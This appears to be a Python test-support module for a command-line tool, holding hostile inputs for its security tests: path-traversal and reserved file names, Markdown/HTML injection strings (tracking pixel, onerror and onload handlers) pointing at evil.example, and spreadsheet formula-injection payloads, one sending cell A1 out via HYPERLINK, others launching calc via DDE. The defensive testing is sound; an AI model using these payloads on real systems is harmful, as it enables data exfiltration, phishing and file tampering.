"""Hostile inputs shared by the security tests, and a tally of how many were tried."""

from __future__ import annotations

import hashlib
from collections import Counter
from pathlib import Path

import pytest

#: How many hostile inputs each kind of test fed in (printed at the end of the run).
TRIED: Counter[str] = Counter()


def run_cli(capsys: pytest.CaptureFixture[str], kind: str, *argv: str) -> tuple[int, str, str]:
    """``careerpivot ARGV`` in this process, tallied under ``kind``: exit code, output, errors."""
    from careerpivot.cli import main

    TRIED[kind] += 1
    try:
        main(list(argv))
        code = 0
    except SystemExit as exc:
        code = int(exc.code or 0)
    out = capsys.readouterr()
    return code, out.out, out.err


BAD_NAMES = [
    "",
    ".",
    "..",
    "../victim",
    "../../../../victim",
    "/etc",
    "/tmp/victim",
    "a/b",
    "a\\b",
    ".hidden",
    "-rf",
    "x" * 65,
    "name with space",
    "onet-..",
    "nul\x00byte",
    "new\nline",
    "ünïcode",
    "C:evil",
    "..\\..\\victim",
    "a..b",
    "CON",
    "nul.txt",
    "com1",
    "LPT9.29",
    "onet.",
]

#: Text that would turn into a link, an image, HTML or a fetch if rendered as Markdown.
OUTSIDE = "evil.example"
MARKUP = [
    f"![pixel](http://{OUTSIDE}/pixel.png)",
    f"[click me](http://{OUTSIDE}/phish)",
    f"<img src=http://{OUTSIDE}/i.png onerror=alert(1)>",
    f"<a href='http://{OUTSIDE}/a'>a</a>",
    f"http://{OUTSIDE}/bare",
    f"www.{OUTSIDE}",
    f"mallory@{OUTSIDE}",
    f"<http://{OUTSIDE}/auto>",
    "[bold red]rich[/] [/] [link=http://evil.example]x[/link]",
    ":red[colour] :material/warning: $x^2$",
    "# Heading\n> quote\n* list",
    "`code` **bold** _em_ ~~strike~~",
    f'[ref][1]\n\n[1]: http://{OUTSIDE}/ref "t"',
    f"&lt;img src=http://{OUTSIDE}/e.png&gt;",
    f"<svg onload=fetch('//{OUTSIDE}')>",
    f"<iframe src=//{OUTSIDE}></iframe>",
]

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=already quoted",
]


def snapshot_tree(root: Path, *, exclude: tuple[Path, ...] = ()) -> dict[str, str]:
    """Path -> content hash of every file under ``root`` (outside ``exclude``)."""
    out = {}
    skip = [p.resolve() for p in exclude]
    for p in sorted(root.rglob("*")):
        rp = p.resolve()
        if any(rp == s or rp.is_relative_to(s) for s in skip):
            continue
        if p.is_file():
            out[str(p.relative_to(root))] = hashlib.sha256(p.read_bytes()).hexdigest()
        elif p.is_dir():
            out[str(p.relative_to(root)) + "/"] = ""
    return out
